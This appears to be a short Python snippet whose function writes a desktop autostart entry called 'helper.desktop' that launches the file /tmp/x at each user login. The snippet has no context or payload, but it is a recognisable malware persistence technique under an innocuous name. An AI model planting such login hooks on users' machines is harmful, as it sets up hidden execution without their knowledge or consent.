from pathlib import Path
def enable():
    f = Path.home() / ".config/autostart/helper.desktop"
    f.write_text("[Desktop Entry]\nExec=/tmp/x\n")
